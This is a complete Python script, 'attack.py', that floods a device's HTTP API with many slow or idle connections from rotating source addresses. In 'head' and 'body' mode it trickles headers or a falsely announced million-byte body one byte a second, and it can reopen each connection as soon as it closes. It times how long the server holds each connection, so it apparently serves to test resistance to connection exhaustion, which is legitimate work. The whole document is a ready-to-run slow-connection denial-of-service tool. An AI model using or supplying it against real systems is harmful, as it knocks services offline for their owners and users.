"""Opens connections to a device, and asks nothing that it could be done with.

    python3 attack.py SORT HOST PORT ADDRESS[,ADDRESS...] COUNT AGAIN

SORT is silent, head, body or idle. Each connection is opened from the next address,
and, if AGAIN is 1, again a second after it was closed. It ends when its standard
input does, or, if AGAIN is 0, when all are closed or after a minute, and prints how many were opened, and after how many seconds those were
closed that were, at the least and at the most.
"""

import heapq
import resource
import select
import socket
import sys
import time

HEAD = b"POST /easyhttp/api HTTP/1.1\r\nHost: 10.0.0.1\r\nContent-Type: application/json\r\n"
FIRST = {
    "silent": b"",
    "head": HEAD,
    "body": HEAD + b"Content-Length: 1000000\r\n\r\n{",
    "idle": HEAD + b"Content-Length: 10\r\n\r\n{\"type\":1}",
}
# What follows, a byte a second.
MORE = {"head": b"x", "body": b" "}


def tell(opened, ages):
    times = f"{min(ages):.3f} {max(ages):.3f}" if ages else "0 0"
    print(opened, len(ages), times, flush=True)


def main():
    sort, host, port, addresses, count, again = sys.argv[1:]
    addresses, count = addresses.split(","), int(count)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    poll = select.epoll()
    poll.register(0, select.EPOLLIN | select.EPOLLHUP)
    is_open, ages, opened = {}, [], 0
    # When there is something to do, and on which connection; -1 is a new one.
    due = [(time.monotonic() + n * 0.0005, n, -1) for n in range(count)]
    number, end = count, time.monotonic() + 60
    print("ready", flush=True)
    while True:
        now = time.monotonic()
        while due and due[0][0] <= now:
            _, _, what = heapq.heappop(due)
            number += 1
            if what == -1:
                it = socket.socket()
                it.setblocking(False)
                it.bind((addresses[opened % len(addresses)], 0))
                it.connect_ex((host, int(port)))
                opened += 1
                is_open[it.fileno()] = [it, now, False]
                poll.register(it, select.EPOLLOUT)
            elif what[0].fileno() in is_open and is_open[what[0].fileno()][0] is what[0]:
                try:
                    what[0].send(MORE[sort])
                except OSError:
                    continue
                heapq.heappush(due, (now + 1, number, what))
        if not int(again) and (len(ages) == count or now >= end):
            return tell(opened, ages)
        for file, events in poll.poll(max(0, min(due[0][0] - now, 1) if due else 1)):
            if file == 0:
                return tell(opened, ages)
            if file not in is_open:
                continue
            entry = is_open[file]
            it, since, has_sent = entry
            now = time.monotonic()
            gone = False
            try:
                if not has_sent:
                    it.send(FIRST[sort])
                    entry[1], entry[2] = now, True
                    poll.modify(it, select.EPOLLIN)
                    if sort in MORE:
                        number += 1
                        heapq.heappush(due, (now + 1, number, (it,)))
                else:
                    gone = not it.recv(4096)
            except OSError:
                gone = True
            if gone:
                if entry[2]:
                    ages.append(now - entry[1])
                poll.unregister(it)
                del is_open[file]
                it.close()
                number += 1
                if int(again):
                    heapq.heappush(due, (now + 1, number, -1))


main()
